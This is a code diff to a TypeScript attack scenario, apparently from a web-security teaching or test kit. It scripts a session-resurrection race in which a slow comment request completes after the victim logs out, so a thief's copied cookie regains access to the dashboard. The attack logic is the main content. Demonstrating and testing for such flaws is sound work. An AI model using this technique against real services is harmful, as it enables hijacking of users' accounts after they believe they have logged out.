@@ -1,25 +1,27 @@
 import { attack } from "../kit/attack.ts";
+import { comesThrough } from "../kit/through.ts";
 
 export default attack(
   "bringing a session back from the dead",
   "The victim has logged out, the list is empty, and a moment later the thief is in again.",
-  async ({ thief, victim, say }) => {
+  async ({ thief, victim, leak, say }) => {
     say("alice logs in on a shared computer. The thief copies her cookie.");
     await victim.login();
     const copied = victim.cookieHeader();
     say("She sends a comment over a slow line. The server has looked her session up, and waits for the text.");
     const text = Promise.withResolvers<string>();
     const slow = victim.ask("POST", "/comments", text.promise);
-    try {
+    const meanwhile = async () => {
       await victim.get("/comments");
       say("Meanwhile she logs out in another tab. Her session is struck off, and the copy is worthless.");
       await victim.post("/logout");
       await thief.get("/dashboard", { headers: { cookie: copied } });
-    } finally {
-      say("Now the rest of the comment arrives, and the server finishes what it had begun.");
-      text.resolve("text=Nice+shop.");
-    }
-    await slow;
+    };
+    const rest = meanwhile();
+    if (!(await comesThrough(rest, leak))) say("The server serves nobody else meanwhile.");
+    say("Now the rest of the comment arrives, and the server finishes what it had begun.");
+    text.resolve("text=Nice+shop.");
+    await Promise.all([slow, rest]);
     say("The thief tries the same copy once more.");
     const page = await thief.get("/dashboard", { headers: { cookie: copied } });
     if (page.response.status === 200) return page.response.body;
